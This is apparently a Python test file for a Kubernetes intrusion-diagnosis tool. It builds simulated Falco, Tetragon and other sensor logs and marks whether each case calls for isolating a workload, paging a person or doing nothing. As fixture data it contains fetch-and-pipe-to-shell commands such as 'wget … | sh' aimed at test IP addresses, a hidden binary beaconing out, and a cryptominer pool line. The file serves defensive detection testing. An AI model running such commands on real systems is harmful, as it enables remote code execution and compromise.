"""What sensors saw: it is about the pod that they name, and neither they nor who passes it on are the intruder."""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
from tests.diagnosis.rules.scenes import SHOP, WELL
from tests.diagnosis.rules.test_intrusion__obeyed import RESTARTS
from tests.diagnosis.rules.tiny import SPACE, at, pod, snapshot, timed, workload
from tuheg_ir.diagnosis.model import Snapshot

DROP = "203.0.113.87"
Told = tuple[float, str]
FED = "process=sh proc_exepath=/bin/dash parent=gs command=sh -c (wget -qO- {}/i||curl -s {}/i)|sh terminal={}"
FETCHED: Told = (900, FED.format(DROP, DROP, 0))
RAN: Told = (890, "process=kd proc_exepath=/var/tmp/.c/kd parent=sh command=kd -c .cfg -B terminal=0")
CALLS: Told = (600, f"connection=10.1.9.1:4089->{DROP}:10128 process=kd parent=init command=kd -c .cfg -B")
ALL = (FETCHED, RAN, CALLS)
IMAGES = {
    "falco": "docker.io/falcosecurity/falco:0.40.0",
    "tetragon": "quay.io/cilium/tetragon:v1.2.0",
    "tracee": "docker.io/aquasec/tracee:0.22.0",
    "kubearmor": "docker.io/kubearmor/kubearmor:stable",
    "falcosidekick": "docker.io/falcosecurity/falcosidekick:2.30",
    "fluent-bit": "docker.io/fluent/fluent-bit:3.1",
    "kube-events": "ghcr.io/resmoio/kubernetes-event-exporter:v1.7",
    "audit-relay": "registry.example/audit-relay:1",
}


def falco(told: Told, of: str, space: str = SPACE) -> str:
    """Return a line of Falco."""
    said = f"{at(told[0])[11:19]}.123456789: Notice Seen ({told[1]} k8s_ns={space} k8s_pod_name={of})"
    return json.dumps({"output": said, "priority": "Notice", "time": at(told[0])})


def tetragon(told: Told, of: str, space: str = SPACE) -> str:
    """Return a line of Tetragon, which tells programs and what they were given apart."""
    words = told[1].partition("command=")[2].partition(" terminal=")[0]
    path = "/var/tmp/.c/kd" if words.startswith("kd") else "/bin/sh"
    process: dict[str, Any] = {"binary": path, "arguments": words, "pod": {"namespace": space, "name": of}}
    event: dict[str, Any] = {"process": process}
    if "->" in told[1]:
        event["args"] = [{"sock_arg": {"daddr": told[1].partition("->")[2].partition(":")[0], "dport": 10128}}]
    return json.dumps({"process_kprobe" if "args" in event else "process_exec": event, "time": at(told[0])})


def seen(
    *told: Told,
    by: str = "falco",
    tells: Any = falco,
    later: float = 0,
    space: str = SPACE,
    of: str = "",
    **more: Any,
) -> Snapshot:
    """Return a workload, and what a sensor tells of its first pod, or of one that is called ``of``."""
    name = more.pop("name", "shop")
    objects = workload(name, **more)
    first = next(each["metadata"]["name"] for each in objects if each["kind"] == "Pod")
    lines = [(age + later, tells((age + later, says), of or first, space)) for age, says in told]
    return snapshot(
        objects,
        workload(by, IMAGES[by], kind="DaemonSet", service=False),
        logs=[timed(f"{by}-0", *lines, of=by)],
        figures=[WELL],
    )


def quoted(by: str, *lines: str, name: str = "", **more: Any) -> Snapshot:
    """Return a program that tells the words of intruders in its own log."""
    objects = workload(name or by, IMAGES.get(by, ""), **more)
    first = next(each["metadata"]["name"] for each in objects if each["kind"] == "Pod")
    told: Sequence[Told] = [(900.0 - n, line) for n, line in enumerate(lines)]
    return snapshot(workload("shop"), objects, logs=[timed(first, *told, of=name or by)], figures=[WELL])


MINES = "new job from pool.example:3333 diff 120001 algo rx/0"
SHELL = "curl -s http://203.0.113.7/a | sh"
OF_SHOP = json.dumps({"log": MINES, "kubernetes": {"pod_name": pod("shop"), "namespace_name": SPACE}})
EVENT = json.dumps({"message": SHELL, "involvedObject": {"kind": "Pod", "name": pod("shop")}})
AUDITED = json.dumps(
    {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "requestObject": {"spec": {"containers": [{"command": ["sh", "-c", SHELL]}]}},
        "verb": "create",
    }
)
HOST = "Notice Shell run on a host (process=sh command=sh -c curl -s http://203.0.113.7/a | sh container_name=host)"

HOLDS = [
    *(
        Holds(
            f"a sensor saw a shell fed from a bare address, and a hidden program run then: {what}",
            world,
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no(*RESTARTS, at=SHOP),
            harmful=RESTARTS,
        )
        for what, world in (
            ("it calls out", seen(*ALL)),
            ("it calls nobody", seen(FETCHED, RAN)),
            ("another sensor", seen(*ALL, by="tetragon", tells=tetragon)),
        )
    ),
    *(
        Holds(
            f"a person has to judge what a sensor saw: {what}",
            world,
            (SHOP, "security_incident", "page_human"),
            excludes=no(*RESTARTS, at=SHOP),
            harmful=(*RESTARTS, "isolate_workload"),
        )
        for what, world in (
            ("it was fetched by a name", seen((900, FED.format("get.tool.test", "get.tool.test", 0)), RAN, CALLS)),
            ("settings name the address", seen(*ALL, env={"AGENT_URL": f"http://{DROP}/i"})),
            ("nobody saw what was fetched", seen(RAN, CALLS)),
            ("nobody saw it run", seen(FETCHED)),
            ("it ran before", seen((990, RAN[1]), FETCHED)),
        )
    ),
    Holds(
        "a person has to judge what a sensor saw in a program of the house that scans",
        seen(*ALL, name="port-scanner"),
        ("Deployment/port-scanner", "security_incident", "page_human"),
        harmful=("isolate_workload",),
    ),
    Holds(
        "a run may have been told to",
        seen(*ALL, kind="Job", service=False),
        ("Job/shop", "security_incident", "page_human"),
        harmful=("isolate_workload",),
    ),
    Holds(
        "who repeats a line of his own, with his own pod's name, is not another",
        quoted("audit-relay", json.dumps({"log": MINES, "kubernetes": {"pod_name": pod("audit-relay")}})),
        ("Deployment/audit-relay", "security_incident", "isolate_workload"),
    ),
    Holds(
        "one that is only called as a sensor mines",
        quoted("shop-sensor", MINES),
        ("Deployment/shop-sensor", "security_incident", "isolate_workload"),
    ),
    Holds(
        "a sensor whose command was changed mines",
        quoted("falco", "ready", command=["sh", "-c", SHELL]),
        ("Deployment/falco", "security_incident", "isolate_workload"),
    ),
]
DOES_NOT_HOLD = [
    *(
        DoesNotHold(f"no intruder is seen: {what}", world, harmful=("isolate_workload",))
        for what, world in (
            ("somebody sat before it", seen((900, FED.format(DROP, DROP, 34816)))),
            ("its start fetches an agent, and runs it", seen(*ALL, started=960)),
            ("it was stopped", seen(*((age, f"{says} action=Blocked") for age, says in ALL))),
            ("a known tool keeps its browser there", seen((890, RAN[1].replace("/.c/", "/.cache/puppeteer/")), CALLS)),
            ("it ran hidden, and did no more", seen(RAN)),
            ("something calls out, as programs do", seen((600, CALLS[1].replace("kd", "python3")))),
            ("a tool is fetched by a name", seen((900, FED.format("get.tool.test", "get.tool.test", 0)))),
            ("it is made to run code", seen(*ALL, name="gitlab-runner")),
            ("the pod of that name is of another place", seen(*ALL, space="elsewhere")),
            ("the pod is none of ours", seen(*ALL, of="cart-7d9f-abcde")),
            ("who tells it is no sensor", seen(RAN, CALLS, by="audit-relay")),
        )
    ),
    *(
        DoesNotHold(f"who tells of intruders is none: {what}", world, harmful=("isolate_workload",))
        for what, world in (
            ("a sensor, of a host", quoted("falco", HOST)),
            ("a sensor, of nobody", quoted("tracee", MINES)),
            ("one more sensor", quoted("kubearmor", SHELL)),
            ("who passes its alarms on", quoted("falcosidekick", SHELL)),
            ("who tells of events", quoted("kube-events", EVENT)),
            ("who passes logs on", quoted("fluent-bit", OF_SHOP)),
            ("an audit log", quoted("audit-relay", AUDITED)),
        )
    ),
]
